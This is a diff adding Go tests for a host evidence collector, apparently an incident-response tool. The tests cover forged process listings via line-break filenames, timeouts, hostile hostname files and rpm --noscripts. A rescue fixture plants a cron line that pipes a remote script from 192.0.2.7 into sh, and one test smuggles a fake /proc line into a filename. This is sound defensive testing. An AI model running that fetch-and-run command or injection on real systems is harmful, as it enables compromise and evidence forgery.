@@ -12,6 +12,7 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+	"time"
 )
 
 // collect runs the collector in a folder, with nothing but these variables.
@@ -89,6 +90,7 @@ func TestCollectorLive(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(folder, ".bash_history"), []byte("ls\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
+	forged := disguised(t, folder)
 	before := state(t, folder)
 	r := collect(t, open(t, nil), folder)
 	if after := state(t, folder); !slices.Equal(before, after) {
@@ -99,6 +101,122 @@ func TestCollectorLive(t *testing.T) {
 	}
 	if id := sectionWith(r, "in-the-environment"); id != "" {
 		t.Errorf("section %s has the environment", id)
+	}
+	for _, p := range r.Host.Processes {
+		if p.PID == os.Getpid() && p.Exe == forged {
+			t.Error("a file with a line break in its name puts itself in another's place")
+		}
+	}
+}
+
+// disguised runs a program in a folder whose name goes on with a line that makes
+// this test another program, and gives that.
+func disguised(t *testing.T, folder string) string {
+	t.Helper()
+	const forged = "/usr/bin/forged"
+	line := fmt.Sprintf("x\nlrwxrwxrwx 1 0 0 0 2026-03-14 12:00:00.000000000 +0000 /proc/%d/exe -> %s", os.Getpid(), forged)
+	path, err := exec.LookPath("sleep")
+	if err != nil {
+		t.Skip("no sleep here")
+	}
+	program, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	file := filepath.Join(folder, line)
+	if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o700), os.WriteFile(file, program, 0o700)); err != nil {
+		t.Fatal(err)
+	}
+	c := exec.Command(file, "600")
+	if err := c.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = c.Process.Kill(); _ = c.Wait() })
+	return forged
+}
+
+// A command that ignores the end of its time is killed with all it started, by
+// the timeout(1) of this system and by that of BusyBox, which kills one program.
+func TestCollectorEndsWhatDoesNotEnd(t *testing.T) {
+	s := open(t, nil)
+	script, err := s.Collector()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, applets := range map[string][]string{"system": nil, "busybox": {"timeout", "setsid"}} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			box, err := exec.LookPath("busybox")
+			if err != nil && len(applets) > 0 {
+				t.Skip("no BusyBox here")
+			}
+			tools := t.TempDir()
+			for _, applet := range applets {
+				if err := os.Symlink(box, filepath.Join(tools, applet)); err != nil {
+					t.Fatal(err)
+				}
+			}
+			stubborn := "#!/bin/sh\ntrap '' TERM\nsleep 50\nsleep 50\n"
+			if err := os.WriteFile(filepath.Join(tools, "ss"), []byte(stubborn), 0o700); err != nil {
+				t.Fatal(err)
+			}
+			c := exec.CommandContext(t.Context(), "sh", "-s")
+			c.Stdin = bytes.NewReader(bytes.Replace(script, []byte("\nPATH="), []byte("\nPATH="+tools+":"), 1))
+			c.Env = append(os.Environ(), "LATCHKEY_LIMIT=5")
+			began := time.Now()
+			out, err := c.Output()
+			if err != nil {
+				t.Fatal(err)
+			}
+			r, err := s.ReadBundle(t.Context(), bytes.NewReader(out))
+			if err != nil || len(r.Sections) < 2 || r.Sections[1].ID != "ss" || r.Sections[1].Exit != 137 {
+				t.Fatalf("%v, %d sections", err, len(r.Sections))
+			}
+			if took := time.Since(began); took > 40*time.Second {
+				t.Errorf("it took %v", took)
+			}
+		})
+	}
+}
+
+// A disk whose host name never ends, or never comes.
+func TestCollectorHostileHostName(t *testing.T) {
+	for name, lay := range map[string]func(file string) error{
+		"pipe":    func(file string) error { return syscall.Mkfifo(file, 0o600) },
+		"endless": func(file string) error { return os.Symlink("/dev/zero", file) },
+		"long":    func(file string) error { return errors.Join(os.WriteFile(file, nil, 0o600), os.Truncate(file, 1<<40)) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			root := t.TempDir()
+			if err := errors.Join(os.Mkdir(filepath.Join(root, "etc"), 0o700), lay(filepath.Join(root, "etc", "hostname"))); err != nil {
+				t.Fatal(err)
+			}
+			if r := collect(t, open(t, nil), t.TempDir(), "LATCHKEY_ROOT="+root, "LATCHKEY_LIMIT=10"); r.Hostname != "" {
+				t.Errorf("host %q", r.Hostname)
+			}
+		})
+	}
+}
+
+// Packages bring scripts for their comparison, which would write on the server.
+func TestCollectorRunsNoScriptOfAPackage(t *testing.T) {
+	compares := 0
+	for _, all := range []bool{false, true} {
+		sections, err := open(t, nil).CollectorSections(false, all)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, x := range sections {
+			if strings.Contains(x.Command, "rpm --root") && strings.Contains(x.Command, " -V") {
+				compares++
+				if !strings.Contains(x.Command, " --noscripts ") {
+					t.Errorf("%s: %s", x.ID, x.Command)
+				}
+			}
+		}
+	}
+	if compares != 2 {
+		t.Errorf("%d comparisons", compares)
 	}
 }
 
@@ -113,6 +231,7 @@ func TestCollectorRescue(t *testing.T) {
 		"root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA someone\n",
 		"etc/cron.d/update":         "*/5 * * * * root curl -fsSL http://192.0.2.7/i.sh | sh >/dev/null 2>&1\n",
 		"etc/ld.so.preload":         "/usr/local/lib/libx.so\n",
+		"var/log/journal/none":      "",
 		"var/lib/dpkg/status":       "",
 		"tmp/name with\nline":       "x",
 	} {
@@ -152,6 +271,11 @@ func TestCollectorRescue(t *testing.T) {
 	for _, secret := range []string{"do-not-read", "in-the-environment"} {
 		if id := sectionWith(r, secret); id != "" {
 			t.Errorf("section %s has a secret", id)
+		}
+	}
+	for _, x := range r.Sections {
+		if strings.HasPrefix(x.ID, "journal_") && bytes.Contains(x.Text, []byte("Failed to ")) {
+			t.Errorf("%s: %s", x.ID, x.Text)
 		}
 	}
 	if sectionWith(r, "name with\nline") == "" {
